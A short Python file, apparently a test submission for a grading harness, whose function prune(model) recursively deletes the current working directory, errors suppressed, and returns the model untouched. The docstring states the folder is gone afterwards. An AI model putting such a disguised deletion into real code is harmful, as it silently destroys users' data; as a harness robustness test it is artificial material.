"""The submission's folder is gone when it returns."""

import os
import shutil


def prune(model):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return model
